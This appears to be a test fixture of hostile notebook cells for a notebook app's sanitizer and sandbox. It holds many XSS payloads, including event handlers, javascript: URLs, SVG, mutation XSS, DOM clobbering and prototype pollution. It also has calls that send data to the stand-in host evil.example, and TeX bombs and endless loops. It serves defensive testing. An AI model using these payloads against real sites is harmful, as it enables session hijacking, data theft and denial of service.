/**
 * What the hostile notebooks hold. Each tries to set `globalThis.pwned` to its name or to ask evil.example for it;
 * NAME stands for the name. A text is a whole file, a list is cells as [mode, source].
 */

const run = "globalThis.pwned='NAME'";
const evil = "https://evil.example/NAME";

/** @type {Record<string, string | ["md" | "js" | "html" | "tex" | "ts", string][]>} */
export const hostileCells = {
  "script-in-markdown": [
    ["md", `# Hello\n\n<script>${run}</script>\n\n<script src="${evil}.js"></script>\n\n<p><script type=module>${run}</script></p>`],
    ["md", `[x]: <javascript:${run}>\n\nA [link][x] and \`<script>${run}</script>\``],
  ],
  "handlers-in-html": [
    ["html", `<img src="x:" onerror="${run}"><body onload="${run}"><details open ontoggle="${run}"><summary>a</summary></details>`],
    ["html", `<input autofocus onfocus="${run}"><video onerror="${run}"><source src="x:"></video><p onpointerover="${run}" onclick="${run}">Click</p>`],
    ["html", `<style>@keyframes x{}</style><p style="animation: x 1s" onanimationstart="${run}">a</p><marquee onstart="${run}">a</marquee>`],
  ],
  "handlers-in-markdown": [
    ["md", `Text <img src=x: onerror="${run}"> more\n\n<details open ontoggle="${run}">\n\n*a*\n\n</details>`],
    ["md", `![a](x: "b" onerror="${run}")\n\n![x"onerror="${run}](x:)\n\n<b onmouseover=${run}>b</b>\n\n# Title <img src=x: onerror=${run}>`],
  ],
  links: [
    ["md", `[a](javascript:${run}) [b](JaVaScRiPt:${run}) [c](&#106;avascript:${run}) [d](java\u200bscript:${run})`],
    ["md", `[e](data:text/html,<script>opener.${run}</script>) <javascript:${run}> [f](vbscript:x)`],
    ["html", `<a href="javascript:${run}">a</a> <a href=" &#1;javascript:${run}">b</a> <a href="java&#10;script:${run}">c</a> <a href="data:text/html,<script>opener.${run}</script>">d</a> <a href="blob:x">e</a>`],
    ["html", `<a href="${evil}" ping="${evil}" target="_blank">f</a> <map name=m><area href="javascript:${run}" shape=default></map><math><maction actiontype="statusline#x" xlink:href="javascript:${run}">g</maction></math>`],
  ],
  svg: [
    ["html", `<svg onload="${run}"><script>${run}</script><a xlink:href="javascript:${run}"><text y=20>a</text></a></svg>`],
    ["html", `<svg><a><animate attributeName=href values="javascript:${run}" /><text y=20>b</text></a><set attributeName=onmouseover to="${run}" /></svg>`],
    ["html", `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src=x: onerror="${run}"><iframe srcdoc="<script>parent.${run}</script>"></iframe></body></foreignObject></svg>`],
    ["html", `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/><image href="${evil}.png" onload="${run}"/><feImage href="${evil}.png"/></svg>`],
    ["html", `<svg><style>@import "${evil}.css";</style><style><!--</style><img src="x:" onerror="${run}">--></style></svg>`],
    ["md", `<svg><desc><img src=x: onerror="${run}"></desc><title><style><img src=x: onerror="${run}"></style></title></svg>`],
  ],
  iframes: [
    ["html", `<iframe src="${evil}"></iframe><iframe srcdoc="<script>parent.${run}</script>"></iframe><iframe src="javascript:parent.${run}"></iframe>`],
    ["html", `<iframe src="data:text/html,<script>parent.${run}</script>"></iframe><frameset onload="${run}"><frame src="${evil}"></frameset><portal src="${evil}"></portal><fencedframe></fencedframe>`],
    ["md", `<iframe src="./index.html"></iframe>\n\n<iframe srcdoc="&lt;img src=x: onerror=&quot;parent.${run}&quot;&gt;"></iframe>`],
  ],
  objects: [
    ["html", `<object data="${evil}.svg"></object><object data="data:text/html,<script>parent.${run}</script>"></object><embed src="javascript:${run}"><embed src="${evil}.swf">`],
    ["md", `<object data="javascript:${run}">\n<param name=movie value="${evil}.swf">\n</object>\n\n<applet code=X archive="${evil}.jar"></applet>`],
  ],
  "refresh-and-base": [
    ["html", `<meta http-equiv="refresh" content="0;url=${evil}"><base href="${evil}/"><a href="x">a</a><img src="x.png">`],
    ["html", `<link rel="stylesheet" href="${evil}.css"><link rel="prefetch" href="${evil}"><link rel="modulepreload" href="${evil}.js"><link rel="dns-prefetch" href="//evil.example"><link rel="manifest" href="${evil}">`],
    ["md", `<meta http-equiv="refresh" content="0;javascript:${run}">\n\n<meta http-equiv="Content-Security-Policy" content="script-src 'none'">\n\n<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}"]}]}</script>`],
  ],
  forms: [
    ["html", `<form action="${evil}" id=f><input name=q value=secret autofocus><button>Run this notebook</button></form><button form=f formaction="javascript:${run}">Keep as it is</button>`],
    ["html", `<form action="javascript:${run}"><input type=submit value="OK"></form><isindex action="${evil}"><input type=image src="${evil}.png">`],
    ["md", `<form method=dialog action="${evil}"><input type=password name=password autocomplete=current-password></form>`],
  ],
  css: [
    ["html", `<style>@import url("${evil}.css"); body { background: url("${evil}.png"); } @font-face { font-family: x; src: url("${evil}.woff"); } main { display: none !important; }</style><p>Text</p>`],
    ["html", `<p style="position: fixed; inset: 0; z-index: 2147483647; background: white url('${evil}-style.png')">The page is covered</p><p style="background-image: image-set('${evil}.png' 1x)">a</p><p style="width: expression(${run})">b</p><p style="behavior: url(${evil})">c</p>`],
    ["md", `<style>input[value^=a] { background: url(${evil}-a); } * { cursor: url(${evil}.cur), auto; }</style>\n\n<div style="content: url(${evil}-content.png); list-style: url(${evil}-list.png)">a</div>`],
  ],
  media: [
    ["html", `<img src="${evil}.png"><img srcset="${evil}.png 1x"><picture><source srcset="${evil}.webp"><img></picture><video poster="${evil}.png" src="${evil}.mp4" autoplay></video><audio src="${evil}.mp3" autoplay></audio>`],
    ["html", `<table background="${evil}.png"><tr><td background="${evil}.png">a</td></tr></table><video><track default src="${evil}.vtt"></video><img lowsrc="${evil}.png" dynsrc="${evil}.avi"><svg><image xlink:href="${evil}.png"/></svg>`],
    ["md", `![a](${evil}.png) ![b](//evil.example/NAME-b.png) ![c](https:evil.example/NAME-c.png)`],
  ],
  "prototype-pollution": `<!doctype html>
<notebook theme="__proto__" __proto__="x" constructor="y">
  <title>Hostile: NAME</title>
  <script id="__proto__" type="text/markdown" output="__proto__">
    ---
    __proto__: {pwned: NAME}
    constructor: {prototype: {pwned: NAME}}
    title: NAME
    ---

    # Front matter
  </script>
  <script id="1" type="__proto__" output="constructor" database="__proto__" format="__proto__" __proto__="x" prototype="y">
    const __proto__ = {pwned: "NAME"};
    const toString = "toString";
  </script>
  <script id="2" type="module" output="toString">
    Object.prototype.pwned = "NAME";
  </script>
  <script id="3" type="application/sql" database="constructor" output="hasOwnProperty">
    SELECT 1
  </script>
</notebook>
<!-- Photographs and settings that SE Lens keeps with this notebook -->
<data hidden data-se-lens-states value="{&quot;__proto__&quot;:{&quot;pwned&quot;:&quot;NAME&quot;}}"></data>
`,
  "mutation-xss": [
    ["html", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${run}&gt;">`],
    ["html", `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror="${run}">`],
    ["html", `<noscript><p title="</noscript><img src=x: onerror=${run}>"></noscript><svg></p><style><a id="</style><img src=x: onerror=${run}>">`],
    ["html", `<select><template><img src=x: onerror="${run}"></template></select><textarea><img title="</textarea><img src=x: onerror=${run}>"></textarea><xmp><img title="</xmp><img src=x: onerror=${run}>"></xmp>`],
    ["html", `<svg><annotation-xml encoding="text/html"><img src=x: onerror="${run}"></annotation-xml></svg><math><annotation-xml encoding="text/html"><style><img src=x: onerror="${run}"></style></annotation-xml></math>`],
    ["md", `<p id="</title><img src=x: onerror=${run}>">\n\n<![CDATA[<img src=x: onerror=${run}>]]>\n\n<!--><img src=x: onerror=${run}>-->`],
  ],
  clobbering: [
    ["html", `<div id="app">a</div><form name="currentScript"><input name="attributes"><input name="parentNode"><input name="remove"></form><img name="body"><img name="head"><form id="documentElement"></form>`],
    ["html", `<a id="location" href="${evil}">a</a><a id="defaultView"></a><a id="pwned" name="x" href="x:">b</a><img name="createElement"><img name="getElementById"><img name="querySelector"><iframe name="parent"></iframe><output id="cell-1">c</output><p id="source-1">d</p>`],
    ["md", `# __proto__\n\n# app\n\n# cell-2\n\n<a id="globalThis"></a><form id=crypto><input name=subtle></form>`],
  ],
  expressions: [
    ["md", `The answer is \${(() => { ${run}; return fetch("${evil}"); })()}.`],
    ["html", `<p title="\${(() => ${run})()}">\${fetch("${evil}")}</p><\${"script"}>${run}</\${"script"}>`],
    ["tex", `x = \${(() => { ${run}; return 1; })()}`],
    ["md", `\${eval("${run}")} \\\${not} \${\`\${(${run})}\`}`],
  ],
  tex: [
    ["tex", `\\href{javascript:${run}}{x} \\url{javascript:${run}} \\includegraphics{${evil}.png}`],
    ["tex", `\\htmlData{onclick=${run}}{x} \\htmlStyle{background: url(${evil}.png)}{x} \\htmlId{app}{x} \\htmlClass{cell}{x}`],
    ["tex", `\\text{<img src=x: onerror="${run}">} \\text{</span><script>${run}</script>}`],
    ["tex", `\\unknown{<script>${run}</script>} \\color{red;background:url(${evil}.png)}{x}`],
  ],
  "tex-bomb": [
    ["tex", String.raw`\def\a{\b\b\b\b\b\b\b\b\b\b}\def\b{\c\c\c\c\c\c\c\c\c\c}\def\c{\d\d\d\d\d\d\d\d\d\d}\def\d{\e\e\e\e\e\e\e\e\e\e}\def\e{\f\f\f\f\f\f\f\f\f\f}\def\f{xxxxxxxxxx}\a`],
    ["tex", String.raw`\def\x{\x\x}\x`],
    ["tex", String.raw`\rule{1000000em}{1000000em} \kern1000000em \Huge{\Huge{x}}`],
    ["tex", `${"{".repeat(5_000)}x${"}".repeat(5_000)}`],
    ["tex", `${"\\frac{1}{".repeat(2_000)}x${"}".repeat(2_000)}`],
  ],
  "deep-html": [
    ["html", `${"<b>".repeat(20_000)}deep`],
    ["html", `${"<div>".repeat(20_000)}deep${"</div>".repeat(20_000)}`],
    ["md", `${">".repeat(5_000)} deep`],
    ["md", `${"[".repeat(20_000)}a${"](b)".repeat(5_000)}`],
    ["md", `${"*a **a ".repeat(5_000)}b${"** a*".repeat(5_000)}`],
    ["md", `${"- ".repeat(3_000)}deep`],
    ["html", `<svg>${"<g>".repeat(10_000)}<image href="${evil}.png">`],
  ],
  "endless-loop": [
    ["md", "# A cell that never ends"],
    ["js", `${run};\nwhile (true) {}`],
    ["js", `${run};\nfor (;;) await 1;`],
    ["js", `const f = () => f();\nfor (const x of (function* () { while (true) yield 1; })()) ${run};`],
    ["js", `${run};\n/^(a+)+$/.test("${"a".repeat(40)}b");`],
    ["js", `${run};\nnew Array(2 ** 32 - 1).fill(0);`],
    ["js", "const after = 1;\ndisplay(after);"],
  ],
  code: [
    ["js", run],
    ["js", `await import("${evil}.js")`],
    ["js", `import x from "${evil}.js";`],
    ["js", `fetch("${evil}"); navigator.sendBeacon("${evil}"); new WebSocket("wss://evil.example/NAME"); new Image().src = "${evil}.png"; new EventSource("${evil}");`],
    ["js", `location.href = "${evil}"; window.open("${evil}"); document.write("<script>${run}<\\/script>"); history.pushState({}, "", "#/mine/x");`],
    ["js", `navigator.serviceWorker.register("data:text/javascript,1"); new Worker(URL.createObjectURL(new Blob(["${run}"]))); new Function("${run}")(); setTimeout("${run}"); eval("${run}");`],
    ["js", `document.querySelector(".trust button")?.click(); for (const button of document.querySelectorAll("button")) if (/run/i.test(button.textContent)) button.click(); indexedDB.open("se-lens"); localStorage.setItem("trusted", "NAME");`],
    ["ts", `const x: string = (${run});`],
  ],
  outside: `<!doctype html>
<html onclick="${run}" manifest="${evil}.appcache">
<head>
  <script>${run}</script>
  <script src="${evil}.js"></script>
  <link rel="stylesheet" href="${evil}.css">
  <meta http-equiv="refresh" content="0;url=${evil}">
  <base href="https://evil.example/">
</head>
<body onload="${run}" background="${evil}.png">
<img src="${evil}.png" onerror="${run}">
<notebook theme="air&quot; onload=&quot;${run}" onclick="${run}" style="background: url(${evil}.png)">
  <title>Hostile: NAME &lt;img src=x: onerror=${run}&gt; \${${run}}</title>
  <script id="1" type="text/markdown" onload="${run}" src="${evil}.js">
    # Everything around the notebook
  </script>
  <script id="2" type="module" src="${evil}.js" async defer onerror="${run}"></script>
  <img src="x:" onerror="${run}">
</notebook>
<iframe srcdoc="<script>parent.${run}</script>"></iframe>
<script>${run}</script>
</body>
</html>
`,
  "breaks-out": `<!doctype html>
<notebook theme="air">
  <title>Hostile: NAME</title>
  <script id="1" type="text/markdown">
    <!-- <script> </script> <b>still in the cell</b> -->
  </script>
  <script id="2" type="text/html">
    <\\/script><script>${run}<\\/script><\\/notebook>
  </script>
  <script id="3" type="text/html">
    </script/><img src="x:" onerror="${run}">
  <script id="4" type="module">
    "<!-- <script>"; ${run};
  </script>
  <script id="5" type="module">${run}</script>
  <!-- The comment in cell 4 never closes: to HTML, all of this is a part of it. -->
</notebook>
`,
  photographs: `<!doctype html>
<notebook theme="air">
  <title>Hostile: NAME</title>
  <script id="1" type="text/markdown">
    # Photographs that are none
  </script>
</notebook>
<!-- Photographs and settings that SE Lens keeps with this notebook -->
<img hidden data-se-lens-photograph="photo-${"0".repeat(64)}" alt="a" src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkPTEiLz4=">
<img hidden data-se-lens-photograph="photo-${"1".repeat(64)}" alt="b" src="${evil}.png">
<img hidden data-se-lens-photograph="photo-${"2".repeat(64)}" alt="c" src="data:image/png;base64,iVBORw0KGgo=" onerror="${run}">
<img hidden data-se-lens-photograph="__proto__" alt="d" src="data:image/png;base64,iVBORw0KGgo=">
<img hidden data-se-lens-photograph="photo-${"3".repeat(64)}" alt="e" src="data:image/png;base64,iVBORw0KGgo=">
`,
};
